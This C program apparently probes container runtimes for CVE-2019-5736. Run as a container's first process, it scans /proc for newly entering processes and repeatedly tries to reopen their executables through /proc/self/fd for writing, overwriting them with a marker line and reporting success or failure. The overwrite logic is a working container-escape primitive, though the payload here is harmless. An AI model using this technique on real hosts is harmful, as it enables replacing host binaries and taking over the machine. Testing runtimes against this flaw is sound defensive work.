/* A container's first process, which writes to the executable of every process that comes, but for those it knows:
 * overwrite KNOWN…
 *
 * Prints WROTE where it could, and BUSY where nothing but the running program was in its way (CVE-2019-5736). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static struct stat known[8];
static int known_count;

/* Each executable of a process once, as processes are met many times while they live. */
static int is_new(int pid, int fd) {
    static struct { int pid; ino_t file; } met[16];
    static int next;
    struct stat seen;
    if (fstat(fd, &seen) != 0) return 0;
    for (int i = 0; i < 16; i++)
        if (met[i].pid == pid && met[i].file == seen.st_ino) return 0;
    met[next].pid = pid, met[next].file = seen.st_ino;
    next = (next + 1) % 16;
    return 1;
}

static void know(const char *path) {
    if (known_count < 8 && stat(path, &known[known_count]) == 0) known_count++;
}

static int is_known(int fd) {
    struct stat seen;
    if (fstat(fd, &seen) != 0) return 1;
    for (int i = 0; i < known_count; i++)
        if (seen.st_dev == known[i].st_dev && seen.st_ino == known[i].st_ino) return 1;
    return 0;
}

/* Two seconds long, as a program that runs can't be opened for writing. */
static void overwrite(int executable) {
    char path[64], name[256] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%d", executable);
    ssize_t length = readlink(path, name, sizeof name - 1);
    int last = 0;
    for (int try = 0; try < 2000; try++) {
        int fd = open(path, O_WRONLY);
        last = fd < 0 ? errno : 0;
        if (fd >= 0) {
            if (write(fd, "#!overwritten\n", 14) == 14) printf("WROTE %s\n", name);
            else printf("refused a write to %s: %s\n", name, strerror(errno));
            exit(0);
        }
        if (last != ETXTBSY) break;
        usleep(1000);
    }
    int memory = length > 7 && strncmp(name, "/memfd:", 7) == 0;
    printf("%s %s: %s\n", last == ETXTBSY && !memory ? "BUSY" : "refused to open", name, strerror(last));
    exit(0);
}

int main(int argc, char **argv) {
    signal(SIGCHLD, SIG_IGN);
    setlinebuf(stdout);
    know("/proc/self/exe");
    for (int i = 1; i < argc; i++) know(argv[i]);
    puts("ready");
    for (int children = 0; children < 400;) {
        DIR *proc = opendir("/proc");
        if (!proc) return 1;
        for (struct dirent *entry; (entry = readdir(proc));) {
            char path[300];
            if (atoi(entry->d_name) < 1) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_PATH);
            if (fd < 0) continue;
            if (!is_known(fd) && is_new(atoi(entry->d_name), fd)) {
                printf("opened an executable of %s\n", entry->d_name);
                children++;
                if (fork() == 0) overwrite(fd);
            }
            close(fd);
        }
        closedir(proc);
    }
    pause();
}
